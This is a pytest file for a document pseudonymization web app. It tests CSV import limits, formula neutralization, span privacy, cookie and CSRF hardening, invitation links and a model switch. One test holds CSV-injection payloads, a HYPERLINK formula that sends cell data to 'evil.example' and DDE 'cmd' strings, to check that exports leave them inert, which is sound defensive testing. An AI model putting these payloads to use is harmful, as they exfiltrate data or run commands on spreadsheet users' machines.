"""What audit round 4 did not cover, each with a regression test named after what it proves.

Real PostgreSQL and Redis (``tests/conftest.py``); the browser-facing parts through the test client.
"""
from __future__ import annotations

import csv
import io
import json
import re
import time

from psan.runtime import db
from psan.store.annotation.decisions import Scope, Span, decide
from psan.store.annotation.window_content import span_text
from psan.store.publish.output import OUTPUT_MODES
from tests.documents import add_document, token_index
from tests.helpers import PASSWORD, Auth, account_id, csrf_token, default_project, make_account, new_project, sql
from tests.web.helpers import add_label, add_rule

RULES_HEADER = "type,condition,decision,label,author\n"
LABELS_HEADER = "name,category,replacement\n"


def _upload(client, path: str, content: str | bytes):
    data = {"csrf_token": csrf_token(client, "/"), "file": (io.BytesIO(
        content.encode() if isinstance(content, str) else content), "import.csv")}
    return client.post(path, data=data, content_type="multipart/form-data")


def _errors(response) -> list[str]:
    assert response.status_code == 200, response.status_code
    return re.findall(r"<li>(line \d+: .*?)</li>", response.get_data(as_text=True))


# --- CSV rule and label imports ---------------------------------------------------------------------------------
def test_csv_imports_refuse_huge_rows_wide_rows_too_many_rows_and_wrong_columns_importing_nothing(admin_client,
                                                                                                  clean_app):
    pid = default_project(clean_app)
    rules, labels = f"/rules/{pid}/import", f"/labels/{pid}/import"
    cases = [
        (rules, RULES_HEADER + "WORD_TYPE,ok,PUBLIC,,\nWORD_TYPE," + "x" * 3_000_000 + ",PUBLIC,,\n",
         "line 3: malformed CSV (field larger than field limit"),
        (rules, RULES_HEADER + ",".join(["a"] * 100_000) + "\n", "line 2: expected 5 columns, found 100000"),
        (rules, RULES_HEADER + "".join(f"WORD_TYPE,w{i},PUBLIC,,\n" for i in range(100_001)),
         "more than 100000 rows; split the file"),
        (rules, "condition,type,decision,label,author\nPraha,WORD_TYPE,PUBLIC,,\n", "line 1: wrong header"),
        (rules, "type,condition\nWORD_TYPE,Praha\n", "line 1: wrong header"),
        (labels, LABELS_HEADER + "n" * 3_000_000 + ",,\n", "line 2: malformed CSV (field larger than field limit"),
        (labels, "replacement,name,category\nx,person,PERSON\n", "line 1: wrong header"),
        (labels, LABELS_HEADER + "person,PERSON,x,extra\n", "line 2:"),
    ]
    for path, content, message in cases:
        errors = _errors(_upload(admin_client, path, content))
        assert any(message in e for e in errors), (path, message, errors[:3])
    assert sql(clean_app, "SELECT count(*) AS n FROM rule") == [{"n": 0}]
    assert sql(clean_app, "SELECT count(*) AS n FROM label") == [{"n": 0}]


def test_csv_formulas_stay_inert_through_an_export_and_an_import(admin_client, clean_app, reannotations):
    """A condition, label name or replacement that a spreadsheet would run is exported with a leading quote and
    imported back as the same text (never a formula in the file, never a changed value in the project)."""
    pid = default_project(clean_app)
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
    label = add_label(clean_app, pid, "@SUM(1)", "PERSON", "=cmd|' /C calc'!A0")
    for condition in formulas:
        add_rule(clean_app, pid, condition, "PATTERN", confidence=-1, label_id=label)
    exported_rules = admin_client.get(f"/rules/{pid}/export.csv").get_data(as_text=True)
    exported_labels = admin_client.get(f"/labels/{pid}/export.csv").get_data(as_text=True)
    for text in (exported_rules, exported_labels):
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
            assert not any(cell[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"-?\d+(\.\d+)?", cell)
                           for cell in row), row  # a negative confidence is a number, not a formula
    target = new_project(clean_app, "Target")
    assert _upload(admin_client, f"/labels/{target}/import", exported_labels).status_code == 302
    assert _upload(admin_client, f"/rules/{target}/import", exported_rules).status_code == 302
    same = "SELECT type::text AS type, condition, confidence FROM rule WHERE project_id = %s ORDER BY condition"
    assert sql(clean_app, same, (target,)) == sql(clean_app, same, (pid,))
    assert sql(clean_app, "SELECT name, replacement FROM label WHERE project_id = %s", (target,)) == [
        {"name": "@SUM(1)", "replacement": "=cmd|' /C calc'!A0"}]


# --- a wide public span over a private one -------------------------------------------------------------------------
def test_a_wide_public_span_never_releases_the_private_span_inside_it(admin_client, clean_app):
    """"Karel Novak Street" decided public by token, "Karel Novak" inside it decided private: no output mode
    releases "Karel" or "Novak" in clear, in any part of the file."""
    app = clean_app
    pid = default_project(app)
    doc = add_document(app, "The office on Karel Novak Street opened. It was quiet there.",
                       [("Karel Novak", "P"), ("Karel Novak Street", "G")])
    first = token_index(app, doc, "Karel")
    admin = account_id(app, "admin@example.org")
    with app.app_context(), db.transaction() as conn:
        for (f, e), decision in (((first, first + 3), "PUBLIC"), ((first, first + 2), "PRIVATE")):
            decide(conn, Span(pid, doc, f, e), Scope.TOKEN, decision, admin, span_text(conn, doc, f, e))
    decided = {(r["first_token"], r["end_token"]): r["d"] for r in sql(
        app, "SELECT first_token, end_token, token_decision::text AS d FROM annotation WHERE document_id = %s", (doc,))}
    assert decided[(first, first + 3)] == "PUBLIC" and decided[(first, first + 2)] == "PRIVATE"
    for mode in OUTPUT_MODES:
        response = admin_client.get(f"/documents/{doc}/download/{mode}")
        assert response.status_code == 200, mode
        text = response.get_data(as_text=True)
        assert "Karel" not in text and "Novak" not in text, (mode, text[:300])
        assert "quiet" in text, mode


# --- the QA sample -------------------------------------------------------------------------------------------------
def test_qa_sample_draws_only_tokens_the_output_releases_in_clear(admin_client, clean_app):
    """Every token the QA sample shows as "left in clear" is one no private or undecided span covers; the
    sample's page never offers a private or undecided token for review as public."""
    app = clean_app
    pid = default_project(app)
    doc = add_document(app, "Karel Novak met Jana Berg in Brno. Petr saw them. The weather was calm and grey.",
                       [("Karel Novak", "P"), ("Jana Berg", "P"), ("Brno", "G"), ("Petr", "P")])
    admin = account_id(app, "admin@example.org")
    with app.app_context(), db.transaction() as conn:
        f = token_index(app, doc, "Karel")
        decide(conn, Span(pid, doc, f, f + 2), Scope.TOKEN, "PRIVATE", admin, span_text(conn, doc, f, f + 2))
        b = token_index(app, doc, "Brno")
        decide(conn, Span(pid, doc, b, b + 1), Scope.TOKEN, "PUBLIC", admin, span_text(conn, doc, b, b + 1))
    response = admin_client.post(f"/documents/project/{pid}/qa", data={
        "csrf_token": csrf_token(admin_client, f"/documents/project/{pid}/release"), "size": "500"})
    assert response.status_code == 302
    sampled = {r["token_id"] for r in sql(app, "SELECT token_id FROM qa_sample_token WHERE document_id = %s", (doc,))}
    covered = set()
    for r in sql(app, "SELECT a.first_token, a.end_token FROM annotation a WHERE a.document_id = %s "
                      "AND coalesce(a.token_decision::text, 'UNDECIDED') <> 'PUBLIC'", (doc,)):
        covered |= set(range(r["first_token"], r["end_token"]))
    assert sampled and not (sampled & covered), (sampled, covered)
    assert token_index(app, doc, "Brno") in sampled  # decided public: in clear, so it may be reviewed
    page = admin_client.get(response.headers["Location"]).get_data(as_text=True)
    marked = re.findall(r"<mark>(.*?)</mark>", page)
    assert marked and not {"Karel", "Novak", "Jana", "Berg", "Petr"} & set(marked)


# --- the rule_change triggers ------------------------------------------------------------------------------------
def test_rule_change_triggers_record_insert_matching_updates_and_delete_but_not_idle_updates(clean_app):
    app = clean_app
    pid = default_project(app)
    rule = add_rule(app, pid, "Praha", confidence=1)
    changes = "SELECT old_condition, new_condition FROM rule_change WHERE rule_id = %s ORDER BY id"
    assert sql(app, changes, (rule,)) == [{"old_condition": None, "new_condition": "Praha"}]
    sql(app, "UPDATE rule SET confidence = confidence WHERE id = %s", (rule,))  # nothing that matters changed
    assert len(sql(app, changes, (rule,))) == 1
    sql(app, "UPDATE rule SET condition = 'Brno' WHERE id = %s", (rule,))
    sql(app, "UPDATE rule SET confidence = -1 WHERE id = %s", (rule,))
    sql(app, "DELETE FROM rule WHERE id = %s", (rule,))
    assert sql(app, changes, (rule,)) == [{"old_condition": None, "new_condition": "Praha"},
                                          {"old_condition": "Praha", "new_condition": "Brno"},
                                          {"old_condition": "Brno", "new_condition": "Brno"},
                                          {"old_condition": "Brno", "new_condition": None}]
    other = new_project(app, "Gone")
    add_rule(app, other, "Olomouc")
    sql(app, "DELETE FROM project WHERE id = %s", (other,))  # a deleted project's changes go with it
    assert sql(app, "SELECT count(*) AS n FROM rule_change WHERE project_id = %s", (other,)) == [{"n": 0}]


# --- remember cookie, CSRF at login, invitation links ----------------------------------------------------------
def test_production_session_and_remember_cookies_are_secure_httponly_and_samesite(clean_app, database_url,
                                                                                  redis_url):
    from psan import create_app
    from tests.services import app_config
    production = create_app(app_config(database_url, redis_url, PSAN_CONFIG="production",
                                       SECRET_KEY="a-long-enough-production-secret-" + "z" * 16))
    make_account(clean_app, "cookie@example.org")
    client = production.test_client()
    page = client.get("/auth/login", base_url="https://localhost").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"|name="csrf_token" value="([^"]+)"', page)
    response = client.post("/auth/login", data={"email": "cookie@example.org", "password": PASSWORD,
                                                "remember": "y", "csrf_token": token.group(1) or token.group(2)},
                           base_url="https://localhost", headers={"Referer": "https://localhost/auth/login"})
    assert response.status_code == 302
    cookies = {c.split("=", 1)[0]: c.lower() for c in response.headers.getlist("Set-Cookie")}
    assert {"session", "remember_token"} <= set(cookies)
    for name in ("session", "remember_token"):
        flags = [f.strip() for f in cookies[name].split(";")]
        assert "secure" in flags and "httponly" in flags and "samesite=lax" in flags, (name, flags)
    remember = [f.strip() for f in cookies["remember_token"].split(";")]
    assert any(f.startswith("expires=") for f in remember)  # a bounded lifetime (REMEMBER_COOKIE_DURATION)


def test_csrf_token_rotates_at_login_and_a_token_of_another_session_is_refused(clean_app):
    make_account(clean_app, "victim@example.org")
    attacker = clean_app.test_client()
    attackers_token = csrf_token(attacker)
    victim = clean_app.test_client()
    before = csrf_token(victim)
    assert Auth(victim).login("victim@example.org").status_code == 302
    after = csrf_token(victim, "/auth/password")
    assert after != before
    for stale in (before, attackers_token):  # neither the pre-login token nor another session's works
        assert victim.post("/auth/logout", data={"csrf_token": stale}).status_code == 400
    assert victim.get("/workspace/").status_code == 200  # still logged in
    assert victim.post("/auth/logout", data={"csrf_token": after}).status_code == 302


def _invitation_link(app) -> str:
    from psan.auth.reset_links import reset_link
    from psan.identity import accounts
    make_account(app, "invited@example.org", password=None)
    with app.test_request_context():
        account = accounts.get(account_id(app, "invited@example.org"))
        return reset_link(account).split("localhost", 1)[-1]


def test_an_invitation_link_works_once(clean_app):
    link = _invitation_link(clean_app)
    first = clean_app.test_client()
    form = {"password": "invited Pass-phrase 1", "confirm": "invited Pass-phrase 1",
            "csrf_token": csrf_token(first, link)}
    assert first.post(link, data=form).status_code == 302
    again = clean_app.test_client()
    response = again.get(link)
    assert response.status_code == 404 and "already been used" in response.get_data(as_text=True)
    # a form opened before the first use cannot set a second password either
    assert first.post(link, data={**form, "password": "other Pass-phrase 2", "confirm": "other Pass-phrase 2"}
                      ).status_code == 404
    assert Auth(clean_app.test_client()).login("invited@example.org", "invited Pass-phrase 1").status_code == 302


def test_an_invitation_link_expires(clean_app):
    link = _invitation_link(clean_app)
    clean_app.config["PASSWORD_RESET_MAX_AGE"] = 1
    try:
        time.sleep(2.2)
        response = clean_app.test_client().get(link)
    finally:
        clean_app.config["PASSWORD_RESET_MAX_AGE"] = 3600
    assert response.status_code == 404 and "expired" in response.get_data(as_text=True)


# --- the model switch ----------------------------------------------------------------------------------------------
def test_model_switch_off_removes_the_models_spans_and_makes_none_on_brings_them_back(admin_client, clean_app,
                                                                                      celery_worker):
    """A serving model found "Projekt Kestrel" in a document; the admin's switch off removes those spans (the
    background refresh on the real worker) and a new document gets none; on, they come back."""
    from psan.celery.tasks import pre_process
    from psan.store.corpus import documents as store_documents
    from tests.model_training import TRAINING, decide_term_private, model_project
    app = clean_app
    pid = model_project(app, "Switch")
    documents = [add_document(app, text, (), project_id=pid, name=f"train-{n}.txt") for n, text in enumerate(TRAINING)]
    for document_id in documents:
        decide_term_private(app, pid, document_id, "admin@example.org")
    unseen = "The auditors asked about Projekt Kestrel again on Tuesday. Nothing else changed in the Paris office."

    def preprocess(name: str) -> int:
        with app.app_context(), db.transaction() as conn:
            document_id = store_documents.create_document(conn, pid, name, "en", unseen, None)
        with app.app_context():
            pre_process.delay(document_id).get(timeout=120)
        return document_id

    def model_spans(document_id: int) -> int:
        return sql(app, "SELECT count(*) AS n FROM named_entity WHERE document_id = %s AND source = 'model'",
                   (document_id,))[0]["n"]

    def wait(predicate) -> None:
        deadline = time.monotonic() + 120
        while not predicate():
            assert time.monotonic() < deadline, "timed out"
            time.sleep(0.3)

    token = csrf_token(admin_client, f"/projects/{pid}/model")
    assert admin_client.post(f"/projects/{pid}/model/retrain", data={"csrf_token": token}).status_code == 302
    wait(lambda: model_spans(documents[0]) > 0)  # trained on the worker, its predictions made
    before = preprocess("before.txt")
    assert model_spans(before) > 0
    assert admin_client.post(f"/projects/{pid}/model/switch", data={"csrf_token": token, "enabled": "0"}
                             ).status_code == 302
    wait(lambda: model_spans(before) == 0)
    assert model_spans(preprocess("while-off.txt")) == 0
    assert admin_client.post(f"/projects/{pid}/model/switch", data={"csrf_token": token, "enabled": "1"}
                             ).status_code == 302
    wait(lambda: model_spans(before) > 0)


# --- morphology features in the key ------------------------------------------------------------------------------
def test_project_key_records_the_case_each_czech_surrogate_was_rendered_in_and_restores_the_text(admin_client,
                                                                                                 clean_app):
    """A Czech person in the nominative, the dative and the instrumental: the key (JSON) gives each mention the
    features its surrogate was rendered with (Case Nom/Dat/Ins, Gender Fem), the surrogates differ as the cases
    do, and the web de-pseudonymization with that key gives back the original text."""
    app = clean_app
    pid = new_project(app, "Morfologie")
    text = "Přišla Jana Nováková. Poslal jsem dopis Janě Novákové. Mluvil jsem s Janou Novákovou."
    doc = add_document(app, text, [("Jana Nováková", "P"), ("Janě Novákové", "P"), ("Janou Novákovou", "P")],
                       project_id=pid, name="cs.txt", language="cs")
    sql(app, "UPDATE rule SET confidence = -1 WHERE project_id = %s AND type = 'NE_TYPE'", (pid,))
    with app.app_context(), db.transaction() as conn:
        from psan.store.corpus.reannotate import reannotate_document_now
        reannotate_document_now(conn, doc)
    output = admin_client.get(f"/documents/{doc}/download/pseudonymize")
    assert output.status_code == 200
    out_text = output.get_data(as_text=True)
    assert "Nováko" not in out_text and "Jan" not in out_text
    key_text = admin_client.get(f"/documents/project/{pid}/key.json?reason=audit+check").get_data(as_text=True)
    entries = sorted(json.loads(key_text)["entries"], key=lambda e: e["original_start"])
    assert [e["original_text"] for e in entries] == ["Jana Nováková", "Janě Novákové", "Janou Novákovou"]
    assert [e["features"]["Case"] for e in entries] == ["Nom", "Dat", "Ins"]
    assert {e["features"]["Gender"] for e in entries} == {"Fem"}
    assert len({e["replacement"] for e in entries}) == 3  # one person, three case forms
    assert len({e["entity"] for e in entries}) == 1
    token = csrf_token(admin_client, "/documents/upload")
    restored = admin_client.post("/documents/depseudonymize", content_type="multipart/form-data", data={
        "csrf_token": token, "output": (io.BytesIO(out_text.encode()), "cs.pseudonymize.txt"),
        "key": (io.BytesIO(key_text.encode()), "key.json"), "reason": "audit check"})
    assert restored.status_code == 200 and restored.get_data(as_text=True) == text
